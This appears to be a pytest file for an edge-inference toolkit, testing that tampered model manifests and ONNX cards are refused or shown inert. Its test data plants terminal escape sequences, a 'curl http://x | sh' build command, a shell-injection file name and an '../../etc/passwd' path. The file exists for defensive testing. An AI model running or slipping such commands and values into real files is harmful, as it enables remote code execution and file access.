"""Planted and damaged artifacts on the runtime side (issue 15, items 2, 3, 11, 12): real engines and ONNX files
built by the project, then edited as an attacker or a bad copy would (the manifest's JSON, the card in the ONNX
metadata_props), opened through the real CLI and the Python API it uses. Each must give one line and exit 1, or
run and show what it really is; never a traceback, a planted command, or a terminal escape sequence."""

import copy
import json
import shlex
import shutil
from pathlib import Path
from typing import Any, Callable, Dict, Iterator, List, Tuple

import onnx
import pytest
from conftest import assert_one_line_error, run_cli

from edgekit.errors import EdgekitError
from edgekit.runtime import manifest as mf
from edgekit.runtime.card import CARD_KEY
from edgekit.runtime.opening import open_model
from edgekit.runtime.text import printable

HOSTILE_NAME = "\x1b]0;pwned\x07\x1b[31mred\x9b2J"
RAW = ("\x1b", "\x07", "\x9b")  # ESC, BEL, the one-character CSI
QUICK = ("--iterations", "3", "--duration", "0", "--warmup", "0")


def planted(engine: Path, folder: Path, edit: Callable[[Dict[str, Any]], Any] = lambda m: None,
            name: str = "e.onnx") -> Path:
    """A copy of a built engine in `folder` with its manifest edited by `edit` (given the JSON)."""
    folder.mkdir(parents=True, exist_ok=True)
    copy_ = folder / name
    shutil.copyfile(engine, copy_)
    data = json.loads(mf.path_for(engine).read_text())
    edit(data)
    mf.path_for(copy_).write_text(json.dumps(data))
    return copy_


def plain_onnx(engine: Path, folder: Path, edit_card: Callable[[Dict[str, Any]], Any] = lambda c: None,
               text: Callable[[str], str] = lambda t: t, name: str = "p.onnx") -> Path:
    """An ONNX Runtime engine's ONNX alone (no manifest), its embedded card edited with the onnx package: as JSON by
    `edit_card`, then as text by `text`."""
    model = onnx.load(str(engine))
    entry = next(p for p in model.metadata_props if p.key == CARD_KEY)
    card = json.loads(entry.value)
    edit_card(card)
    entry.value = text(json.dumps(card))
    folder.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(folder / name))
    return folder / name


def assert_no_raw_controls(*texts: str) -> None:
    for text in texts:
        for c in RAW:
            assert c not in text, (c, text)


# --- item 2: terminal escapes from a planted card ------------------------------------------------------------------

def test_a_card_name_with_terminal_escapes_is_shown_inert(det_engine, tiny_synth, tmp_path):
    engine = planted(det_engine, tmp_path, lambda m: m["card"].update(name=HOSTILE_NAME))
    r = run_cli("profile", str(engine), *QUICK, "-o", str(tmp_path / "prof"))
    assert r.returncode == 0, r.stderr
    md = (tmp_path / "prof" / "profile.md").read_text()
    assert_no_raw_controls(r.stdout, r.stderr, md)
    assert "model: \\x1b]0;pwned\\x07\\x1b[31mred\\x9b2J (detection)" in r.stdout  # shown, escaped, not obeyed
    assert json.loads((tmp_path / "prof" / "profile.json").read_text())["model"] == HOSTILE_NAME  # JSON: faithful

    r = run_cli("eval", str(engine), str(tiny_synth), "--limit", "2", "-o", str(tmp_path / "eval"))
    assert r.returncode == 0, r.stderr
    assert_no_raw_controls(r.stdout, r.stderr, (tmp_path / "eval" / "eval.md").read_text())
    assert "\\x1b]0;pwned" in r.stdout

    r = run_cli("profile", str(engine), "--task", "segmentation", *QUICK, "-o", str(tmp_path / "p2"))
    assert_one_line_error(r, "this is a detection model (\\x1b]0;pwned\\x07")
    assert_no_raw_controls(r.stderr)


@pytest.mark.parametrize("text, shown", [
    ("\x1b[2J\rok", "\\x1b[2J\\rok"),  # clear screen, carriage return over what was printed
    ("a\nb", "a\\nb"),  # a second line in a one-line message
    ("\u202eevil\u2066", "\\u202eevil\\u2066"),  # bidi override and isolate: text that reads reversed
    ("\x7f\x85", "\\x7f\\x85"),  # DEL, C1 next-line
    ("Übersicht\tdisc 日本", "Übersicht\tdisc 日本"),  # printable text, tabs and any script pass unchanged
])
def test_printable_escapes_controls_only(text, shown):
    assert printable(text) == shown
    assert printable("x\ny", multiline=True) == "x\ny"


# --- item 3: the rebuild hint is made from checked fields, never copied ---------------------------------------------

def test_the_rebuild_hint_is_made_from_the_manifests_fields(det_engine, tmp_path):
    def edit(m: Dict[str, Any]) -> None:
        m["build"]["command"] = "curl http://x | sh"
        m["backend"]["version"] = "0.0.1"  # a mismatch: loading refuses and says how to rebuild

    engine = planted(det_engine, tmp_path, edit)
    r = run_cli("profile", str(engine), *QUICK, "-o", str(tmp_path / "prof"))
    assert_one_line_error(r, "built with version 0.0.1", f"rebuild with: edgekit build-engine {det_engine.parent}/",
                          f"-o {engine} --backend onnxruntime --precision fp32")
    assert "curl" not in r.stderr

    # A planted ONNX path is one quoted argument of the hint, shown inert: pasted, it runs nothing.
    planted_onnx = "x.onnx; curl http://x | sh \x1b[31m"
    manifest = mf.read(engine)
    manifest.onnx.file = planted_onnx
    hint = mf.rebuild_command(manifest, engine)
    assert_no_raw_controls(hint)
    assert shlex.split(hint)[:4] == ["edgekit", "build-engine", printable(planted_onnx), "-o"]


def test_the_int8_rebuild_hint_carries_the_calibration(shipped_int8_engines, tmp_path):
    engine = planted(shipped_int8_engines["detection"], tmp_path, lambda m: m["backend"].update(version="0.0.1"))
    with pytest.raises(EdgekitError) as e:
        open_model(engine)
    hint = str(e.value).split("rebuild with: ", 1)[1]
    args = shlex.split(hint)
    assert args[args.index("--precision") + 1] == "int8"
    assert Path(args[args.index("--calib") + 1]).name == "synth"  # the folder it was calibrated from
    assert args[args.index("--calib-size") + 1] == "32"


# --- item 11: what a plain ONNX or an edited card claims is checked against the graph --------------------------------

def test_an_int8_engine_without_its_manifest_says_int8(det_engine, shipped_int8_engines, tmp_path):
    int8 = tmp_path / "int8.onnx"
    shutil.copyfile(shipped_int8_engines["detection"], int8)  # no manifest beside it
    r = run_cli("profile", str(int8), *QUICK, "-o", str(tmp_path / "p1"))
    assert r.returncode == 0, r.stderr
    assert "precision: int8 (quantized graph: DequantizeLinear, QuantizeLinear; plain ONNX, no manifest)" in r.stdout
    fp32 = tmp_path / "fp32.onnx"
    shutil.copyfile(det_engine, fp32)
    r = run_cli("profile", str(fp32), *QUICK, "-o", str(tmp_path / "p2"))
    assert r.returncode == 0, r.stderr
    assert "precision: fp32 (plain ONNX)" in r.stdout


def _detection_card(card: Dict[str, Any]) -> None:
    card.update(task="detection", classes=card["classes"][1:], output={"name": "output0", "layout": "yolov8"})


@pytest.mark.parametrize("which, edit, message", [
    ("detection", lambda c: c["classes"].append("extra"),
     "its model card does not fit the graph: output 'output0' has shape [1, 8, 768]; a YOLOv8-layout detector with "
     "5 classes has [N, 9, anchors]"),
    ("detection", lambda c: c.update(task="segmentation", output={"name": "output0", "layout": "logits"}),
     "output 'output0' is float32 [1, 8, 768]; expected [N, C, H, W] logits"),
    ("segmentation", _detection_card,
     "output 'output0' has shape [1, 5, 192, 256]; a YOLOv8-layout detector with 4 classes has [N, 8, anchors]"),
    ("segmentation", lambda c: c["classes"].pop(),
     "output 'output0' has 5 channels (shape [1, 5, 192, 256]), one per class, but the card names 4 classes"),
    ("detection", lambda c: c["input"].update(shape=[1, 3, 320, 320]),
     "its model card gives a 1x3x320x320 input, but the graph's input 'images' is [1, 3, 192, 256]"),
    ("detection", lambda c: c["input"].update(shape=[1, 3, 100000, 100000]),
     "input shape 100000x100000 is larger than edgekit takes (8192 pixels a side at most)"),
])
def test_a_card_that_does_not_describe_the_graph_is_refused(shipped_int8_engines, tmp_path, which, edit, message):
    engine = planted(shipped_int8_engines[which], tmp_path, lambda m: edit(m["card"]))
    with pytest.raises(EdgekitError, match=None) as e:
        open_model(engine)
    assert message in str(e.value) and str(e.value).startswith(str(mf.path_for(engine)))
    assert "\n" not in str(e.value)


def test_an_edited_card_is_refused_on_the_command_line_for_engines_and_plain_onnx(det_engine, tmp_path):
    engine = planted(det_engine, tmp_path / "a", lambda m: m["card"]["classes"].append("extra"))
    r = run_cli("run-stream", str(engine), "synthetic://?size=96x64&fps=0", "--max-frames", "2", "-q", "-o",
                str(tmp_path / "s"))
    assert_one_line_error(r, "e.onnx.manifest.json: its model card does not fit the graph", "with 5 classes")
    assert not (tmp_path / "s" / "results.jsonl").exists()

    onnx_file = plain_onnx(det_engine, tmp_path / "b", lambda c: c["classes"].pop())
    r = run_cli("profile", str(onnx_file), *QUICK, "-o", str(tmp_path / "p"))
    assert_one_line_error(r, "p.onnx: its model card does not fit the graph", "detector with 3 classes")

    huge = plain_onnx(det_engine, tmp_path / "c", lambda c: c["input"].update(shape=[1, 3, 100000, 100000]))
    r = run_cli("profile", str(huge), *QUICK, "-o", str(tmp_path / "p"))
    assert_one_line_error(r, "p.onnx: model card: input shape 100000x100000 is larger than edgekit takes")


# --- item 12: damaged manifests and cards are one line, never a traceback --------------------------------------------

def test_deeply_nested_json_is_one_line(det_engine, tmp_path):
    deep = "[" * 100000 + "]" * 100000
    engine = planted(det_engine, tmp_path / "a")
    text = mf.path_for(engine).read_text()
    mf.path_for(engine).write_text(text[:-1] + f', "agreement": {deep}}}')
    r = run_cli("profile", str(engine), *QUICK, "-o", str(tmp_path / "p"))
    assert_one_line_error(r, "e.onnx.manifest.json: not a valid manifest (nested too deeply)")

    # Nested within what the JSON parser takes, but deeper than any manifest: refused before it is walked.
    nested: List[Any] = []
    for _ in range(600):
        nested = [nested]
    engine = planted(det_engine, tmp_path / "b", lambda m: m["agreement"].update(extra=nested))
    with pytest.raises(EdgekitError, match="not a valid manifest \\(nested too deeply\\)"):
        open_model(engine)

    onnx_file = plain_onnx(det_engine, tmp_path / "c", text=lambda t: t[:-1] + f', "metrics": {deep}}}')
    r = run_cli("profile", str(onnx_file), *QUICK, "-o", str(tmp_path / "p"))
    assert_one_line_error(r, "p.onnx: not a valid model card (nested too deeply)")


@pytest.mark.parametrize("edit, message", [
    (lambda m: m["build"]["flags"].update(max_batch="many"), "field 'build.flags.max_batch' must be an integer"),
    (lambda m: m["build"]["flags"].update(max_batch=0), "build.flags.max_batch is 0, below 1"),
    (lambda m: m["backend"].update(session_options={"optimized_model_filepath": "/tmp/owned.onnx"}),
     "backend.session_options.optimized_model_filepath is not a session option edgekit sets"),
    (lambda m: m["backend"]["session_options"].update(graph_optimization_level=None),
     "backend.session_options.graph_optimization_level must be one of ORT_DISABLE_ALL"),
    (lambda m: m.update(precision="fp64\x1b[31m"), "field 'precision' must be one of fp32, fp16, int8, got 'fp64\\x1b"),
    (lambda m: m["files"].update(tensorrt_qdq_onnx="../../etc/passwd"),
     "field 'files.tensorrt_qdq_onnx' must be a file name beside the engine"),
    (lambda m: m["card"].update(classes="disc"), "classes must be a list, got 'disc'"),
    (lambda m: m["card"]["postprocess"].update(agnostic_nms="false"), "postprocess.agnostic_nms must be true or false"),
    (lambda m: m["card"]["normalize"].update(std=[0.2, float("nan"), 0.2]), "3 finite values each"),
])
def test_a_mistyped_manifest_field_is_one_line_naming_it(det_engine, tmp_path, edit, message):
    engine = planted(det_engine, tmp_path, edit)
    with pytest.raises(EdgekitError) as e:
        open_model(engine)
    assert str(e.value).startswith(str(mf.path_for(engine))) and message in str(e.value), str(e.value)
    assert "\n" not in str(e.value) and "\x1b" not in str(e.value)
    assert not Path("/tmp/owned.onnx").exists()


def test_a_mistyped_build_flag_on_the_command_line(det_engine, tmp_path):
    engine = planted(det_engine, tmp_path, lambda m: m["build"]["flags"].update(max_batch=[2]))
    r = run_cli("profile", str(engine), *QUICK, "-o", str(tmp_path / "p"))  # was a TypeError traceback
    assert_one_line_error(r, "e.onnx.manifest.json: field 'build.flags.max_batch' must be an integer, got [2]")


def test_profile_iterations_zero_is_a_usage_error(det_engine, tmp_path):
    r = run_cli("profile", str(det_engine), "--iterations", "0", "-o", str(tmp_path / "p"))
    assert r.returncode == 2 and "--iterations" in r.stderr and "Traceback" not in r.stderr
    assert not (tmp_path / "p").exists()


def _key_paths(value: Any, prefix: Tuple[str, ...] = ()) -> Iterator[Tuple[str, ...]]:
    """Every mapping key of a JSON value, as a path (list items are left to the typed checks)."""
    if isinstance(value, dict):
        for key, v in value.items():
            yield (*prefix, key)
            yield from _key_paths(v, (*prefix, key))


FUZZ = {"delete": ..., "null": None, "string": "x\x1b[31m", "list": [1], "huge": 10 ** 30}


def test_every_manifest_key_deleted_or_mistyped_loads_or_is_one_line(det_engine, tmp_path):
    """Each key of a real manifest deleted, or set to null, a string, a list, a huge integer: the load the CLI
    does either succeeds (an optional or descriptive field) or is one EdgekitError line naming the file, never
    another exception. Required fields must fail."""
    engine = planted(det_engine, tmp_path)
    base = json.loads(mf.path_for(engine).read_text())
    source = str(mf.path_for(engine))
    required_missing = 0
    for path in _key_paths(base):
        for kind, value in FUZZ.items():
            data = copy.deepcopy(base)
            parent = data
            for key in path[:-1]:
                parent = parent[key]
            if kind == "delete":
                del parent[path[-1]]
            else:
                parent[path[-1]] = value
            mf.path_for(engine).write_text(json.dumps(data))
            try:
                with open_model(engine):
                    pass
            except EdgekitError as e:
                text = str(e)
                assert "\n" not in text and "\x1b" not in text, (path, kind, text)
                assert text.startswith((source, str(engine))), (path, kind, text)
                required_missing += kind == "delete"
            except Exception as e:  # a traceback for the user
                pytest.fail(f"{'.'.join(path)} {kind}: {type(e).__name__}: {e}")
    assert required_missing >= 40  # the typed record's required fields (schema, engine.*, backend.name, card.*, ...)
